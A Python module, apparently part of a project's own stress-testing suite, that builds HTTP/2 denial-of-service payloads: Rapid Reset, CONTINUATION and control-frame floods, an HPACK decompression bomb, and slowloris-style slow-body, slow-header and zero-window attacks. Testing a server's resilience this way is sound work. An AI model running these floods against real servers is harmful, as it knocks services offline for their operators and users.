"""What the attacks of table.py do over HTTP/2: each function makes, for an arsenal.Target, what can `run`."""

from benchmark.exchange import BODY, PUBLIC_KEY

from chaos.attacks import frames
from chaos.attacks.crowd import Crowd
from chaos.attacks.floods import Flood, frames_of

FIELDS = [
    (":method", "POST"), (":scheme", "https"), (":path", "/v1/track"), (":authority", "localhost"),
    ("content-type", "application/json"), ("user-agent", "flood"),
]  # fmt: skip
# Answered at its head, without anybody upstream.
REFUSED = frames.block(FIELDS)
ACCEPTED = frames.block([*FIELDS, ("authorization", f"Bearer {PUBLIC_KEY}")])
COUNT = 3000


def flood(make, record=None):
    """An attack of what `make` returns: bytes, and how many of what they hold; in records of so many bytes."""

    def attack(target):
        blob, count = make()
        return Flood(16, frames_of(target.clients(), blob, count, frames.PREFACE + frames.settings(), record))

    return attack


def open_stream(stream=1):
    return frames.headers(stream, ACCEPTED, end_stream=False)


def streams(make):
    return b"".join(make(2 * index + 1) for index in range(COUNT)), COUNT


@flood
def rapid_reset():
    """Requests that would go to Plunk."""
    return streams(
        lambda stream: open_stream(stream)
        + frames.frame(frames.DATA, frames.END_STREAM, stream, BODY)
        + frames.reset(stream)
    )


@flood
def provoked_resets():
    """The edge has to reset each: its window grows by nothing."""
    return streams(lambda stream: open_stream(stream) + frames.window_update(stream, 0))


@flood
def too_many_streams():
    return streams(open_stream)


def whole_requests():
    """Whole requests, each of which is answered."""
    return streams(lambda stream: frames.headers(stream, REFUSED))


refusals = flood(whole_requests)
refusals_in_small_records = flood(whole_requests, record=500)


def again(made, before=b""):
    return before + made * COUNT, COUNT


@flood
def ping():
    return again(frames.frame(frames.PING, 0, 0, b"12345678"))


@flood
def settings():
    return again(frames.settings([(frames.INITIAL_WINDOW_SIZE, 100)]))


@flood
def empty_data():
    return again(frames.frame(frames.DATA, 0, 1, b""), before=open_stream())


@flood
def small_data():
    return again(frames.frame(frames.DATA, 0, 1, b" "), before=open_stream())


@flood
def window_update():
    return again(frames.window_update(0, 1))


@flood
def priority():
    return again(frames.frame(frames.PRIORITY, 0, 3, b"\0\0\0\1\0"))


@flood
def continuation():
    head = frames.frame(frames.HEADERS, 0, 1, b"")
    return again(frames.frame(frames.CONTINUATION, 0, 1, frames.field("x", "a" * 100)), before=head)


@flood
def empty_continuation():
    head = frames.frame(frames.HEADERS, 0, 1, b"")
    return again(frames.frame(frames.CONTINUATION, 0, 1, b""), before=head)


@flood
def hpack_bomb():
    """4000 bytes once, then a byte for each time they are meant: 64 MB if they were unpacked."""
    block = REFUSED + frames.indexed_field("x-bomb", "b" * 4000)
    first = frames.headers(1, block)
    return first + frames.headers(3, REFUSED + frames.NEWEST_INDEXED * 16_000), 16_000


def slow_bodies(target):
    """As many bodies that wait for their rest as one connection may have streams, in clear text."""
    part = b'{"event":"a","email":"a@example.com","data":"' + b"a" * 16_305
    more = b"a" * len(part)
    blob = frames.PREFACE + frames.settings()
    for index in range(100):
        stream = 2 * index + 1
        blob += open_stream(stream) + frames.frame(frames.DATA, 0, stream, part) + frames.frame(frames.DATA, 0, stream, more)
    return Crowd(target.port, target.many(50), blob)


def slow_heads(target):
    """Heads that do not end, of as much as one may hold, in clear text."""
    beginning = frames.frame(frames.HEADERS, frames.END_STREAM, 1, REFUSED + frames.field("x-slow", "a" * 15_900))
    more = frames.frame(frames.CONTINUATION, frames.END_HEADERS, 1, frames.field("x-slow", "a" * 15_400))
    greeting = frames.PREFACE + frames.settings() + frames.frame(frames.SETTINGS, frames.ACK)
    blob = greeting + beginning + more[:-200]
    return Crowd(target.port, target.many(5000), blob, b"a")


def untaken_answers(target):
    """Two thousand requests each whose answers have no window: far more than may wait, in clear text."""
    greeting = frames.PREFACE + frames.settings([(frames.INITIAL_WINDOW_SIZE, 0)])
    blob = greeting + b"".join(frames.headers(2 * index + 1, REFUSED) for index in range(2000))
    return Crowd(target.port, target.many(1000), blob)


def slow_readers(target):
    """A hundred requests each whose answers have no window, in clear text."""
    greeting = frames.PREFACE + frames.settings([(frames.INITIAL_WINDOW_SIZE, 0)])
    blob = greeting + b"".join(frames.headers(2 * index + 1, REFUSED) for index in range(100))
    return Crowd(target.port, target.many(1000), blob, reads=False)
